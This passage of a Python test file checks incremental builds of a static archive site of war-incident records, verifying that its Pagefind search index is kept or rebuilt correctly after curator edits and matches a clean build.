        for change in ("edit", "addition"):  # the second build keeps the first's index, which it copied
            change_may(tiny, change)
            build(tiny.project, today=TODAY)
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp_path, monkeypatch):
    """`build --no-search` keeps the last index when no page changed and its records would be the same: not after a
    change of what records hold and pages do not show (a weapon's aliases, which search finds), nor after one of our code."""
    tiny = three_months(tmp_path / "archive")
    data = tiny.root / "data"
    shutil.copytree(APP_DIR / "data", data)
    project = Project(root=tiny.root, data_dir=data)
    build(project, today=TODAY)
    index = tiny.root / "site" / "pagefind"
    before = tree(index)
    may = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-a-kyiv-depot.yaml"
    may.write_text(may.read_text(encoding="utf-8") + "# a curator's note: no page shows it\n", encoding="utf-8")
    assert not build(project, today=TODAY, with_search=False).up_to_date
    assert tree(index) == before
    asked = record_pagefinds_records(monkeypatch)  # the index kept is still the one the next build takes shards from
    change_may(tiny, "edit")
    build(project, today=TODAY)
    assert [url for url in asked if url.startswith("incidents/")] == ["incidents/2025-05-12-strike-on-a-kyiv-depot/"]
    monkeypatch.undo()
    weapons = data / "weapons.yaml"
    weapons.write_text(weapons.read_text(encoding="utf-8").replace("aliases: [Shahed, Geran-2, Geran]", "aliases: [Shahed, Geran-2, Geran, Shahid]"),
                       encoding="utf-8")
    assert not build(project, today=TODAY, with_search=False).up_to_date
    assert not index.exists()  # the last index would not find Shahid: no index until a build makes one


@pytest.mark.slow
def test_random_edits_give_the_search_index_a_clean_build_gives(tmp_path, monkeypatch):
    """Edits of every kind a curator makes (test_pipeline.random_edit), each followed by a build with the
    index from the last build's model, as serve's are: each shard they touch is indexed in part where it
    can be, and the index is a clean build's."""
    monkeypatch.setattr(archive.incremental, "RECENT_NS", 0)  # files just written are taken as unchanged when their stat is
    root = tmp_path / "archive"
    generate(60, root, seed=11)
    model = build(Project(root=root), today=TODAY).archive
    in_part: list[str] = []
    real_write_pages = archive.pagefind_files.write_pages

    def recording(output, pages, *rest):
        real_write_pages(output, pages, *rest)
        in_part.append(output.name)  # (once it is written: a shard that falls back to a whole index is not counted)

    monkeypatch.setattr("archive.search.write_pages", recording)
    rng = random.Random(5)
    for _ in range(8):
        edit = random_edit(root, rng)
        model = build(Project(root=root), today=TODAY, earlier=model).archive  # as serve builds: from the last model
        clean_build(root, tmp_path / "clean", with_search=True)
        assert content(root / "site" / "pagefind") == content(tmp_path / "clean" / "site" / "pagefind"), edit
    assert len(in_part) >= 4  # most edits took a shard's other pages over (the others touched most of a small shard)

